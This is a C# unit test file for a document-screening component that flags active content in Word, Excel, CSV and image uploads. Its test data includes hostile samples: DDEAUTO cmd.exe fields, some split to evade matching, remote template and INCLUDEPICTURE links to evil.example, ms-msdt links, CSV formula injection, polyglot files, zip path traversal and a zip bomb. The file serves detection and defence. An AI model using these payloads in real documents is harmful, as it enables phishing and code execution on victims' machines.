using System.Diagnostics;
using System.IO.Compression;
using System.Text;
using Mediation.Core.Files;

namespace Mediation.Tests.Core.Files;

/// <summary>What would run or fetch something when it is opened is refused; what documents ordinarily have is not.</summary>
public sealed class ActiveContentTests
{
    private const string Docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    private const string Xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    private const string Relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    private const string Begin = "<w:fldChar w:fldCharType=\"begin\"/>";
    private const string Separate = "<w:fldChar w:fldCharType=\"separate\"/>";
    private const string End = "<w:fldChar w:fldCharType=\"end\"/>";

    [Theory]
    [InlineData("hyperlink", "https://bank.example", false)]
    [InlineData("attachedTemplate", "http://evil.example/t.dotm", true)]
    [InlineData("oleObject", "http://evil.example/o", true)]
    [InlineData("image", "http://evil.example/i.png", true)]
    [InlineData("frame", "http://evil.example/f.htm", true)]
    [InlineData("hyperlink", "mailto:a@bank.example", false)]
    [InlineData("hyperlink", "file:///c:/windows/system32/calc.exe", true)]
    [InlineData("hyperlink", "\\\\host\\share\\x", true)]
    [InlineData("hyperlink", "x.exe", true)]
    [InlineData("hyperlink", "ms-msdt:/id", true)]
    public void A_letter_may_name_a_link_and_fetch_nothing(string type, string target, bool isActive) =>
        IsIn(
                Zip(
                    (
                        "word/_rels/settings.xml.rels",
                        $"<Relationships><Relationship Id=\"a\" Type=\"{Relationships}/{type}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
                    )
                ),
                Docx
            )
            .ShouldBe(isActive);

    [Theory]
    [InlineData("<w:fldSimple w:instr=\"PAGE \\* MERGEFORMAT\"/>", false)]
    [InlineData("<w:t>DDEAUTO is a word here</w:t>", false)]
    [InlineData("<w:fldSimple w:instr=\" DDEAUTO c:\\\\cmd.exe\"/>", true)]
    [InlineData("<w:fldChar/><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText><w:fldChar/>", true)]
    [InlineData("<w:fldSimple w:instr=\" INCLUDEPICTURE http://evil.example/p.png\"/>", true)]
    [InlineData("<w:instrText>DD</w:instrText><w:proofErr/><w:r><w:instrText>E c:\\cmd.exe</w:instrText></w:r>", true)]
    [InlineData("<w:fldSimple w:instr=\" HYPERLINK \\l &quot;_Toc1&quot;\"/>", false)]
    [InlineData("<w:fldSimple w:instr=\" HYPERLINK &quot;https://bank.example&quot;\"/>", false)]
    [InlineData("<w:fldSimple w:instr=\" HYPERLINK &quot;file:///c:/x.exe&quot;\"/>", true)]
    [InlineData("<w:fldSimple w:instr=\" HYPERLINK &quot;\\\\\\\\host\\\\share&quot;\"/>", true)]
    [InlineData(Begin + "<w:instrText> IF </w:instrText>" + Begin + "<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>" + End + End, true)]
    [InlineData(Begin + "<w:instrText> </w:instrText>" + Begin + "<w:instrText>QUOTE 68 68 69</w:instrText>" + End + End, true)]
    [InlineData(Begin + "<w:instrText>TOC \\o</w:instrText>" + Separate + Begin + "<w:instrText>PAGEREF _1</w:instrText>" + Separate + End + End, false)]
    [InlineData("<a:blip xmlns:a=\"a\" xmlns:r=\"r\" r:embed=\"rId1\"/>", false)]
    [InlineData("<a:blip xmlns:a=\"a\" xmlns:r=\"r\" r:link=\"rId1\"/>", true)]
    [InlineData("<v:imagedata xmlns:v=\"v\" src=\"http://evil.example/p.png\"/>", true)]
    [InlineData("<w:fldChar/><w:instrText xml:space=\"preserve\"> INCLUDETEXT \"http://evil.example\"</w:instrText><w:fldChar/>", true)]
    public void A_field_of_a_letter_may_count_pages_and_call_no_program(string field, bool isActive) =>
        IsIn(Zip(("word/document.xml", $"<w:document xmlns:w=\"w\"><w:p>{field}</w:p></w:document>")), Docx).ShouldBe(isActive);

    [Theory]
    [InlineData("word/media/image1.png", "\u0089PNG", false)]
    [InlineData("word/fonts/font1.odttf", "xx", false)]
    [InlineData("xl/printerSettings/printerSettings1.bin", "\u0001\0", false)]
    [InlineData("customXml/item1.xml", "<x/>", false)]
    [InlineData("word/embeddings/oleObject1.bin", "x", true)]
    [InlineData("word/embeddings/Sheet1.xlsx", "PK\u0003\u0004", true)]
    [InlineData("word/payload.exe", "x", true)]
    [InlineData("word/media/image1.png", "MZ\u0090", true)]
    [InlineData("word/media/image1.png", "PK\u0003\u0004", true)]
    [InlineData("word/media/image1.png", "%PDF-1.7", true)]
    [InlineData("word/vbaProject.dat", "x", true)]
    [InlineData("word/../../evil.xml", "<x/>", true)]
    [InlineData("/evil.xml", "<x/>", true)]
    [InlineData("..\\evil.xml", "<x/>", true)]
    [InlineData("c:evil.xml", "<x/>", true)]
    [InlineData("WORD/DOCUMENT.XML", "<x/>", true)]
    [InlineData("other/document.xml", "<w:p xmlns:w=\"w\"><w:fldSimple w:instr=\"DDEAUTO x\"/></w:p>", true)]
    [InlineData("xl/activeX/activeX1.xml", "<x/>", true)]
    [InlineData("word/webextensions/webextension1.xml", "<x/>", true)]
    public void A_letter_has_words_pictures_and_fonts_and_no_other_file(string name, string content, bool isActive) =>
        IsIn(Zip(("word/document.xml", "<x/>"), (name, content)), Docx).ShouldBe(isActive);

    [Theory]
    [InlineData(
        "<Override PartName=\"/word/media/image1.png\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
    )]
    [InlineData("<Default Extension=\"png\" ContentType=\"application/xml\"/>")]
    [InlineData(
        "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
    )]
    public void A_letter_may_not_hide_its_words_under_another_name(string type)
    {
        using MemoryStream content = new(ZipOf(("[Content_Types].xml", $"<Types>{type}</Types>"), ("word/document.xml", "<x/>")));
        ActiveContent.RiskOf(content, Docx).ShouldBe(FileRisk.Active);
    }

    [Fact]
    public void A_letter_with_a_password_says_so()
    {
        var zip = Zip(("word/document.xml", "<x/>"));
        for (var at = 0; (at = zip.AsSpan(at).IndexOf("PK\u0001\u0002"u8) is var next and >= 0 ? at + next : -1) >= 0; at++)
        {
            zip[at + 8] |= 1;
        }

        using MemoryStream encrypted = new(zip);
        ActiveContent.RiskOf(encrypted, Docx).ShouldBe(FileRisk.Encrypted);
        using MemoryStream container = new([
            0xD0,
            0xCF,
            0x11,
            0xE0,
            0xA1,
            0xB1,
            0x1A,
            0xE1,
            .. new byte[600],
            .. Encoding.Unicode.GetBytes("EncryptedPackage"),
        ]);
        FileKind.Detect(container, "函.docx").ShouldBeNull();
        FileKind.IsEncryptedOffice(container).ShouldBeTrue();
    }

    [Theory]
    [InlineData("image/jpeg", "\u00FF\u00D8\u00FF\u00E1 <x:xmpmeta>", false)]
    [InlineData("image/jpeg", "\u00FF\u00D8\u00FF\u00FE %PDF-1.7", true)]
    [InlineData("image/png", "\u0089PNG <script>alert(1)</script>", true)]
    [InlineData("image/jpeg", "\u00FF\u00D8\u00FF and at its end PK\u0005\u0006", true)]
    [InlineData("text/plain", "a text PK\u0005\u0006", true)]
    [InlineData("application/pdf", "%PDF-1.7 PK\u0005\u0006", true)]
    [InlineData("audio/mpeg", "ID3\u0003\0\0\0\0\0\0 <html>", true)]
    public void A_file_of_two_kinds_is_refused(string mediaType, string content, bool isActive) =>
        IsIn(Encoding.Latin1.GetBytes(content), mediaType).ShouldBe(isActive);

    [Fact]
    public void A_workbook_that_reads_another_or_calls_a_program_is_active()
    {
        IsIn(Zip(("xl/worksheets/sheet1.xml", "<x/>")), Xlsx).ShouldBeFalse();
        IsIn(Zip(("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")), Xlsx)
            .ShouldBeTrue();
        IsIn(Zip(("xl/connections.xml", "<x/>")), Xlsx).ShouldBeTrue();
    }

    [Theory]
    [InlineData("日期,金额\n2026-11-13,-3280.00\n=SUM(B2:B3)", false)]
    [InlineData("管道|字符!", false)]
    [InlineData("日期,金额\n=cmd|'/c calc'!A0,1", true)]
    [InlineData("a,\"=cmd|'/c calc'!A0\"", true)]
    public void A_table_of_text_may_have_sums_and_call_no_program(string table, bool isActive) =>
        IsIn(Encoding.UTF8.GetBytes(table), "text/plain").ShouldBe(isActive);

    [Theory]
    [InlineData(300, 1_048_576)]
    [InlineData(1_950, 120_000)]
    [InlineData(60, 1_000_000)]
    public void A_letter_made_to_unpack_to_more_than_any_is_refused_at_once(int parts, int each)
    {
        var bomb = Zip([.. Enumerable.Range(0, parts).Select(i => ($"word/_rels/{i}.xml.rels", "<Relationships>" + new string(' ', each)))]);
        Process.GetCurrentProcess().Refresh();
        var before = Process.GetCurrentProcess().TotalProcessorTime;
        using MemoryStream content = new(bomb);
        (FileKind.Detect(content, "函.docx") is null || ActiveContent.RiskOf(content, Docx) == FileRisk.Active).ShouldBeTrue();
        (Process.GetCurrentProcess().TotalProcessorTime - before).ShouldBeLessThan(TimeSpan.FromSeconds(4));
    }

    private static bool IsIn(byte[] content, string mediaType)
    {
        using MemoryStream stream = new(content);
        return ActiveContent.RiskOf(stream, mediaType) == FileRisk.Active;
    }

    private static byte[] Zip(params (string Name, string Content)[] entries) =>
        ZipOf([("[Content_Types].xml", $"<Types><Override PartName=\"/word/document.xml\" ContentType=\"{Docx}.main+xml\"/></Types>"), .. entries]);

    private static byte[] ZipOf(params (string Name, string Content)[] entries)
    {
        using MemoryStream stream = new();
        using (ZipArchive zip = new(stream, ZipArchiveMode.Create))
        {
            foreach (var (name, words) in entries)
            {
                using var content = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
                content.Write(words.Any(c => c > 0xFF) ? Encoding.UTF8.GetBytes(words) : Encoding.Latin1.GetBytes(words));
            }
        }

        return stream.ToArray();
    }
}
